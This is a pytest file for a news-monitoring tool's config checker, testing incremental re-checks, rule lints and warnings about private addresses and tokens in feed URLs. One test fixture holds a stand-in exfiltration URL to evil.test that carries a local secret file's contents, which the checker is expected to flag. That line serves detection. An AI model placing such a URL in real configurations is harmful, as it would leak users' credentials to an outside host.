"""A check is run again after each change: what has not changed is not parsed again, but everything is tested."""

from __future__ import annotations

import itertools
import os
from collections.abc import Sequence
from datetime import datetime
from pathlib import Path

import pytest

from monitor.config.loading.load import load_config_files
from monitor.lab.checking import CheckResult, ConfigChecker
from monitor.lab.lints.rules import ENOUGH
from monitor.matching import compile_rules
from monitor.store.commit.serial_section import SerialSection
from monitor.store.engine.opening import open_database
from monitor.store.queues.claims import Claims
from tests.support.building import HOUR, NOON, article, claimed, commit, sources

CONFIG = """\
database: {url}
channels: {{screen: {{url: "console://"}}}}
routes: {{default: [screen]}}
rules: [rules]
"""
RULE = """\
rule: {id}
title: A rule
level: low
match: {{all: [{{words: [{word}]}}, {{entity: japan}}]}}
tests: {{fires: [Japan {word}]}}
"""
JAPAN = "entity: japan\nkind: place\nname: Japan\nsure: [Japan]\ntests: {fires: [Japan]}\n"


_seconds = itertools.count()


def write(path: Path, text: str) -> None:
    """A file that was written some time ago, so that a later edit shows."""
    path.write_text(text, encoding="utf-8")
    os.utime(path, (0, next(_seconds)))


def checking(folder: Path, url: str = "") -> ConfigChecker:
    """Of a config with two rules that name an entity."""
    (folder / "rules").mkdir()
    write(folder / "monitor.yaml", CONFIG.format(url=url or f"sqlite:///{folder}/none.db"))
    write(folder / "rules/japan.yaml", JAPAN)
    write(folder / "rules/quake.yaml", RULE.format(id="quake", word="quake"))
    write(folder / "rules/storm.yaml", RULE.format(id="storm", word="storm"))
    return ConfigChecker(folder / "monitor.yaml", (), {})


def said(checked: CheckResult) -> list[str]:
    """The file and kind of each lint, the file of each fault."""
    faults = [Path(fault.place.file).name for fault in checked.faults]
    return faults + [f"{Path(lint.place.file).name} {lint.kind}" for lint in checked.lints]


@pytest.mark.parametrize(("secrets", "named"), [({}, "paid"), ({"KEY": "k3y"}, "paid"), ({"KEY": "k3y"}, "nosuch")])
def test_a_source_with_a_fault_is_not_called_unknown(tmp_path: Path, secrets: dict[str, str], named: str) -> None:
    """Its secret may be missing only in this shell. Once all sources can be read, a wrong id is named."""
    (tmp_path / "rules").mkdir()
    sources = "sources: [sources.yaml]\n"
    write(tmp_path / "monitor.yaml", CONFIG.format(url=f"sqlite:///{tmp_path}/none.db") + sources)
    rows = "  - {id: wire, url: 'https://wire.test/feed'}\n  - {id: paid, url: 'https://paid.test/feed?k=${env:KEY}'}\n"
    write(tmp_path / "sources.yaml", f"sources:\n{rows}")
    rule = f"rule: quake\ntitle: A rule\nlevel: low\nwhere: {{sources: [{named}]}}\nmatch: {{words: [quake]}}\n"
    write(tmp_path / "rules/quake.yaml", rule)
    checked = ConfigChecker(tmp_path / "monitor.yaml", (), secrets).run(NOON)
    assert [Path(fault.place.file).name for fault in checked.faults] == ([] if secrets else ["sources.yaml"])
    assert ("quake.yaml unknown-source" in said(checked)) == (named == "nosuch")


def test_what_has_not_changed_is_not_read_again(tmp_path: Path) -> None:
    """Its rules are the same objects, also those whose tests do not hold."""
    check = checking(tmp_path)
    write(tmp_path / "rules/storm.yaml", RULE.format(id="storm", word="storm").replace("[Japan", "[Chile"))
    first = check.run(NOON)
    assert said(first) == ["storm.yaml"]
    assert not check.compare_files().changed
    write(tmp_path / "rules/quake.yaml", RULE.format(id="quake", word="quake").partition("tests")[0])
    assert check.compare_files().changed
    second = check.run(NOON)
    assert said(second) == ["storm.yaml", "quake.yaml untested"]
    assert not check.compare_files().changed
    before, after = ({rule.id: rule for rule in checked.rules} for checked in (first, second))
    assert (after["storm"] is before["storm"], after["quake"] is before["quake"]) == (True, False)


def test_a_config_that_cannot_be_read_is_looked_at_again(tmp_path: Path) -> None:
    """As soon as it is mended, the check finds no fault."""
    check = checking(tmp_path)
    good = (tmp_path / "monitor.yaml").read_text(encoding="utf-8")
    write(tmp_path / "monitor.yaml", "rules: [")
    assert (said(check.run(NOON)), check.run(NOON).is_config_usable) == (["monitor.yaml"], False)
    write(tmp_path / "monitor.yaml", good)
    assert check.compare_files().changed
    assert said(check.run(NOON)) == []


def test_what_a_rule_names_changes_what_is_said_of_it(tmp_path: Path) -> None:
    """Although its own file is as it was."""
    check = checking(tmp_path)
    assert said(check.run(NOON)) == []
    write(tmp_path / "rules/japan.yaml", JAPAN.replace("sure: [Japan]", "sure: [Chile]"))
    assert said(check.run(NOON)) == ["japan.yaml", "quake.yaml", "storm.yaml"]
    write(tmp_path / "rules/japan.yaml", JAPAN)
    assert said(check.run(NOON)) == []


def test_an_entity_is_tested_again_with_what_it_names(tmp_path: Path) -> None:
    """A name that counts near another entity."""
    check = checking(tmp_path)
    near = "counts_if: {near: {within: sentence, entity: japan}}"
    tests = "tests: {fires: [Abe in Japan]}"
    abe = f"entity: abe\nkind: person\nname: Abe\nsure: [Shinzo Abe]\nmaybe: {{words: [Abe], {near}}}\n{tests}\n"
    write(tmp_path / "rules/abe.yaml", abe)
    assert said(check.run(NOON)) == []
    write(tmp_path / "rules/japan.yaml", JAPAN.replace("sure: [Japan]", "sure: [Chile]"))
    assert "abe.yaml" in said(check.run(NOON))


def test_a_rule_that_asks_what_titles_are_about_is_tested_again_with_the_others(tmp_path: Path) -> None:
    """An edit of another rule changes what its own tests say."""
    check = checking(tmp_path)
    about = "title: A\nlevel: low\nnews_in: about\nmatch: {words: [flood]}\n"
    tests = "tests: {fires: [{title: Storm in Japan, text: A flood followed.}]}\n"
    write(tmp_path / "rules/about.yaml", f"rule: about\n{about}{tests}")
    assert said(check.run(NOON)) == ["about.yaml"]
    write(tmp_path / "rules/storm.yaml", RULE.format(id="storm", word="storms"))
    assert said(check.run(NOON)) == []


def test_other_sources_are_other_tests(tmp_path: Path) -> None:
    """Of a rule that asks for their tags."""
    check = checking(tmp_path)
    where = "where: {tags: [state], unknown: does not count}\n"
    tests = "tests: {fires: [{title: Japan quake, source: wire}]}\n"
    write(tmp_path / "rules/quake.yaml", RULE.format(id="quake", word="quake").partition("tests")[0] + where + tests)
    (tmp_path / "sources.yaml").write_text("sources: [{id: wire, url: 'https://x.test/'}]\n", encoding="utf-8")
    with (tmp_path / "monitor.yaml").open("a", encoding="utf-8") as file:
        file.write("sources: [sources.yaml]\n")
    assert said(check.run(NOON)) == ["quake.yaml", "quake.yaml unknown-source"]
    write(tmp_path / "sources.yaml", "sources: [{id: wire, url: 'https://x.test/', tags: [state]}]\n")
    assert said(check.run(NOON)) == []


def test_an_unused_list_is_told_only_where_every_file_is_known(tmp_path: Path) -> None:
    """A faulty file may be the one that names it."""
    check = checking(tmp_path)
    write(tmp_path / "rules/list.yaml", "list: storms\nwords: [storm]\n")
    assert said(check.run(NOON)) == ["list.yaml unused-list"]
    write(tmp_path / "rules/broken.yaml", "rule: [")
    assert said(check.run(NOON)) == ["broken.yaml"]


def store_news(url: str, folder: Path, titles: Sequence[str]) -> None:
    """Articles with these titles, and the matches of the rules in this folder."""
    config = load_config_files(folder / "monitor.yaml", {}).config
    database = open_database(url)
    try:
        claims, section = Claims(database, "here:1"), SerialSection(database)
        claims.register_sources(sources("wire"), NOON)
        rules = compile_rules(config.rules.values(), config.entities)
        articles = [article(f"a{number}", title) for number, title in enumerate(titles)]
        commit(section, claimed(claims), *articles, ruleset=rules)
    finally:
        database.close()


@pytest.mark.parametrize(
    ("many", "met", "is_told"),
    [
        (ENOUGH, 5, True),
        (ENOUGH, 4, False),  # 2 %
        (ENOUGH - 1, 50, False),  # too few to tell
    ],
)
def test_a_rule_that_meets_too_much(new_url: str, tmp_path: Path, many: int, met: int, is_told: bool) -> None:
    """Of what came in the last days, on both kinds of database, which is only read."""
    check = checking(tmp_path, new_url)
    store_news(new_url, tmp_path, ["Quake in Japan"] * met + ["A garden"] * (many - met))
    checked = check.run(NOON + HOUR)
    assert [(lint.kind, Path(lint.place.file).name) for lint in checked.lints] == (
        [("meets-too-much", "quake.yaml")] if is_told else []
    )
    if is_told:
        assert f"it met {met} of the {many} articles of the last 7 days (2%" in checked.lints[0].problem
    assert check.run(NOON + 200 * HOUR).lints == ()  # long ago


@pytest.mark.parametrize(
    ("before", "after", "said"),
    [
        ("story", "event", "in another language or in very different words comes as a first alert"),
        ("article", "story", "it knows only the articles that it sent"),
        ("event", "article", "every further article about a story that was sent is sent too"),
        ("event", "event", None),
    ],
)
def test_an_edit_of_once_per_is_reported_for_a_day(
    new_url: str, tmp_path: Path, before: str, after: str, said: str | None
) -> None:
    """Where the rule has sent alerts: what follows, on both kinds of database."""
    check, file = checking(tmp_path, new_url), tmp_path / "rules/quake.yaml"
    plain = file.read_text(encoding="utf-8")
    write(file, f"{plain}alert: {{once_per: {before}}}\n")
    store_news(new_url, tmp_path, ["Quake in Japan"])

    def advice(at: datetime) -> list[str]:
        return [str(lint) for lint in check.run(at).lints if lint.kind == "once-per-edited"]

    assert advice(NOON + HOUR) == []
    write(file, f"{plain}alert: {{once_per: {after}}}\n")
    found = advice(NOON + HOUR)
    assert len(found) == (said is not None)
    if said is not None:
        assert f"this rule sent 1 alert in the last 24 hours once per {before}; now " in found[0]
        assert said in found[0]
    assert advice(NOON + 25 * HOUR) == []


def test_a_rule_that_was_mended_is_judged_by_what_it_met_since(new_url: str, tmp_path: Path) -> None:
    """As soon as it has met anything; until then it is said that an earlier version did."""
    check = checking(tmp_path, new_url)
    database = open_database(new_url)
    claims, section = Claims(database, "here:1"), SerialSection(database)
    claims.register_sources(sources("wire"), NOON)

    def met(word: str, ids: str) -> CheckResult:
        write(tmp_path / "rules/quake.yaml", RULE.format(id="quake", word=word))
        config = load_config_files(tmp_path / "monitor.yaml", {}).config
        pages = [article(f"{ids}{number}", "Quake in Japan, a big one") for number in range(ENOUGH)]
        rules = compile_rules(config.rules.values(), config.entities)
        commit(section, claimed(claims), *pages, ruleset=rules)
        return check.run(NOON + HOUR)

    try:
        assert [lint.problem[:9] for lint in met("quake", "a").lints] == ["it met 20"]
        assert [lint.problem[:9] for lint in met("earthquake", "b").lints] == ["an earlie"]
        write(tmp_path / "rules/quake.yaml", RULE.format(id="quake", word="big"))
        config = load_config_files(tmp_path / "monitor.yaml", {}).config
        rules = compile_rules(config.rules.values(), config.entities)
        commit(section, claimed(claims), article("c", "A big one in Japan"), ruleset=rules)
        assert check.run(NOON + HOUR).lints == ()
    finally:
        database.close()


def test_a_database_that_cannot_be_asked_is_no_fault(tmp_path: Path) -> None:
    """It is said why; one that is not there yet is not even asked."""
    check = checking(tmp_path)
    checked = check.run(NOON)
    assert (checked.database_error, (tmp_path / "none.db").exists()) == (None, False)
    (tmp_path / "none.db").write_text("no database", encoding="utf-8")
    checked = check.run(NOON)
    assert checked.faults == ()
    assert checked.database_error is not None
    assert "none.db" in checked.database_error


@pytest.mark.parametrize(
    ("more", "told"),
    [
        ("sources: [s.yaml]\n", ["monitor.yaml no-sources"]),
        ("sources: [none]\n", ["monitor.yaml no-sources"]),  # an empty folder
        ("sources: []\n", ["monitor.yaml no-sources"]),
        ("sources: []  # lint: ignore no-sources\n", []),
        ("sources: [wrong.yaml]\n", ["wrong.yaml"]),  # it may hold some: the fault is enough
        ("", []),  # somebody only checks rules
    ],
)
def test_that_no_source_is_polled_is_told(more: str, told: list[str], tmp_path: Path) -> None:
    """An empty list is no fault, and nothing would ever come."""
    check = checking(tmp_path)
    write(tmp_path / "monitor.yaml", CONFIG.format(url=f"sqlite:///{tmp_path}/none.db") + more)
    write(tmp_path / "s.yaml", "sources: []\n")
    write(tmp_path / "wrong.yaml", "sources: [{id: a}]\n")
    (tmp_path / "none").mkdir()
    assert said(check.run(NOON)) == told


def test_a_private_address_of_a_source_is_told_before_it_is_refused(tmp_path: Path) -> None:
    """With what allows it; an allowed one, a name, and one whose line silences it, is not reported."""
    check = checking(tmp_path)
    config = CONFIG.format(url=f"sqlite:///{tmp_path}/none.db")
    write(tmp_path / "monitor.yaml", f"{config}sources: [s.yaml]\nnetwork: {{allow: [10.1.0.0/16]}}\n")
    addresses = ("http://10.2.3.4/feed", "http://[fd00::1]/feed", "http://10.1.2.3/feed", "https://name.test/feed")
    lines = [f"  - {{id: s{n}, url: '{url}'}}" for n, url in enumerate(addresses)]
    lines.append("  - {id: quiet, url: 'http://localhost:8080/'}  # lint: ignore private-address")
    lines.append("  - {id: mapped, url: 'https://a.test/', sitemap: 'http://127.0.0.1/map.xml'}")
    write(tmp_path / "s.yaml", "\n".join(["sources:", *lines]))
    lints = [lint for lint in check.run(NOON).lints if lint.kind == "private-address"]
    assert [lint.place.line for lint in lints] == [2, 3, 7]
    assert lints[0].problem == "10.2.3.4, the url of s0, is a private or special address, which sources must not reach"
    assert (
        lints[0].hint
        == "if it is meant, put {network: '10.2.3.4/32', sources: [s0]} into the list network.allow in monitor.yaml; "
        "a daemon that runs applies that within seconds"
    )
    assert "'fd00::1/128', sources: [s1]" in lints[1].hint
    own = "network: {allow: [10.1.0.0/16, {network: 10.2.0.0/16, sources: [s0, mapped]}]}"
    write(tmp_path / "monitor.yaml", f"{config}sources: [s.yaml]\n{own}\n")
    lints = [lint for lint in check.run(NOON).lints if lint.kind == "private-address"]
    assert [lint.place.line for lint in lints] == [3, 7]


def test_a_token_in_the_address_of_a_source_is_told_and_not_shown(tmp_path: Path) -> None:
    """What is written as a secret, what names a thing, and a line that silences it, is not reported."""
    check = checking(tmp_path)
    write(tmp_path / "monitor.yaml", f"{CONFIG.format(url=f'sqlite:///{tmp_path}/none.db')}sources: [s.yaml]\n")
    (tmp_path / "token").write_text("s3cret", encoding="utf-8")
    addresses = (
        "https://x.test/?token=0penly",
        "https://x.test/?feed=0f3a9c1b2d4e5f60718293a4b5c6d7e8f9012345",
        "https://x.test/?token=${file:token}",
        "https://video.test/?channel_id=UCabc123def456ghi789jkl0",
    )
    lines = [f"  - {{id: s{n}, url: '{url}'}}" for n, url in enumerate(addresses)]
    lines.append("  - {id: quiet, url: 'https://y.test/?token=0penly'}  # lint: ignore open-credential")
    write(tmp_path / "s.yaml", "\n".join(["sources:", *lines]))
    lints = [lint for lint in check.run(NOON).lints if lint.kind == "open-credential"]
    assert [lint.place.line for lint in lints] == [2, 3]
    assert "${file:/PATH}" in str(lints[0].hint)
    assert not any("0penly" in str(lint) or "0f3a9c" in str(lint) for lint in lints)


def test_check_says_which_secret_a_source_sends_where(tmp_path: Path) -> None:
    """An address of a stranger, which an earlier version added, looks like one that the user wrote: both are shown."""
    check = checking(tmp_path)
    write(tmp_path / "monitor.yaml", f"{CONFIG.format(url=f'sqlite:///{tmp_path}/none.db')}sources: [s.yaml]\n")
    (tmp_path / "token").write_text("s3cret", encoding="utf-8")
    keys = (
        "url: 'https://evil.test/steal?file=${file:token}'",
        "url: 'https://n.test/', proxy: 'http://me:${file:token}@proxy.test'",
        "url: 'https://n.test/$${file:token}'",  # an escape: data
        "url: 'https://mine.test/?t=${file:token}'}  # lint: ignore sent-credential",
    )
    lines = [f"  - {{id: s{number}, {key}" + "}" * ("#" not in key) for number, key in enumerate(keys)]
    write(tmp_path / "s.yaml", "\n".join(["sources:", *lines]))
    lints = [lint for lint in check.run(NOON).lints if lint.kind == "sent-credential"]
    assert [(lint.place.line, lint.problem) for lint in lints] == [
        (2, "s0 sends the secret ${file:token} to evil.test"),
        (3, "s1 sends the secret ${file:token} to proxy.test"),
    ]


def test_only_a_comment_silences_advice(tmp_path: Path) -> None:
    """A name that a stranger wrote is no comment, whatever is in it and however it is quoted."""
    check = checking(tmp_path)
    write(tmp_path / "monitor.yaml", f"{CONFIG.format(url=f'sqlite:///{tmp_path}/none.db')}sources: [s.yaml]\n")
    rows = (
        "name: 'News # lint: ignore private-address'}",
        'name: "it\'s # lint: ignore private-address"}',
        "name: 'it''s'}  # lint: ignore private-address",
        "name: it's}  # lint: ignore private-address",
        "name: 'News # lint: ignore private-address'}  # lint: ignore private-address",
    )
    lines = [f"  - {{id: s{number}, url: 'http://10.0.0.{number}/', {row}" for number, row in enumerate(rows)]
    write(tmp_path / "s.yaml", "\n".join(["sources:", *lines]))
    lints = [lint for lint in check.run(NOON).lints if lint.kind == "private-address"]
    assert [lint.place.line for lint in lints] == [2, 3]
